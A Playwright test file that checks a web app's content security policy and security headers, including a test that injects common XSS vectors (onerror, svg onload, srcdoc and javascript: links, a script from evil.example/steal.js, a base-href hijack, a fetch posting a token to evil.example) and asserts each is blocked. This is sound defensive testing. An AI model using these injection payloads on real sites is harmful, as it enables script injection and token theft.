import { expect, test, type Page } from "@playwright/test";
import { begin, open, visit } from "./candidate.js";

/** What the policy refused on this page, since it was opened. */
async function watched(page: Page): Promise<string[]> {
  const refused: string[] = [];
  await page.exposeFunction("refused", (what: string) => void refused.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      const told = (window as unknown as { refused: (what: string) => void }).refused;
      told(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return refused;
}

test("the pages keep to their own content security policy", async () => {
  // given a browser that notes what the policy refuses
  const browser = await open();
  const { page } = await visit(browser);
  const refused = await watched(page);

  // when the pages are looked at
  await begin(page);
  for (const path of ["/", "/resumes", "/progress", "/privacy", "/sign-in", "/docs/"]) {
    await page.goto(path);
    await page.getByRole("heading").first().waitFor();

    // then nothing of theirs is refused before something that must be, and is reported in turn
    await page.evaluate(() => document.head.append(Object.assign(document.createElement("script"), { text: "0" })));
    await expect.poll(() => refused, path).toContain("script-src-elem inline");
    expect(refused.splice(0), path).toEqual(["script-src-elem inline"]);
  }
  await browser.close();
});

test("a script that gets into the page does not run", async () => {
  const browser = await open();
  const { page } = await visit(browser);
  const refused = await watched(page);
  await begin(page);

  // when markup with scripts gets into the page, in each of the usual ways
  await page.evaluate(() => {
    const put = (markup: string) => document.body.insertAdjacentHTML("beforeend", markup);
    put(`<img src="/no-such-picture.png" onerror="window.taken = 1">`);
    put(`<svg onload="window.taken = 2"></svg>`);
    put(`<iframe srcdoc="<script>parent.taken = 3</script>"></iframe>`);
    put(`<a id="link" href="javascript:window.taken = 4">x</a>`);
    const inline = document.createElement("script");
    inline.textContent = "window.taken = 5";
    document.head.append(inline);
    const foreign = document.createElement("script");
    foreign.src = "https://evil.example/steal.js";
    document.head.append(foreign);
    const base = document.createElement("base");
    base.href = "https://evil.example/";
    document.head.append(base);
    document.getElementById("link")?.click();
    return fetch("https://evil.example/", { method: "POST", body: "token" }).catch(() => undefined);
  });

  // then each is refused, none ran, and nothing was sent
  await expect
    .poll(() => new Set(refused.map((one) => one.split(" ")[0])))
    .toEqual(new Set(["script-src-attr", "script-src-elem", "connect-src", "base-uri"]));
  expect(await page.evaluate(() => (window as unknown as { taken?: number }).taken)).toBeUndefined();
  expect(await page.evaluate(() => document.baseURI)).not.toContain("evil");
  await browser.close();
});

test("no other page can frame ours, and a window that ours opens learns nothing", async () => {
  const browser = await open();
  const { page } = await visit(browser);

  const headers = (await page.goto("/"))?.headers() ?? {};

  expect(headers["content-security-policy"]).toContain("frame-ancestors 'none'");
  expect(headers["content-security-policy"]).toContain("object-src 'none'");
  expect(headers["content-security-policy"]).not.toContain("unsafe");
  expect(headers["x-frame-options"]).toBe("DENY");
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["cross-origin-opener-policy"]).toBe("same-origin-allow-popups");
  expect(headers["permissions-policy"]).toContain("camera=(self)");
  await browser.close();
});
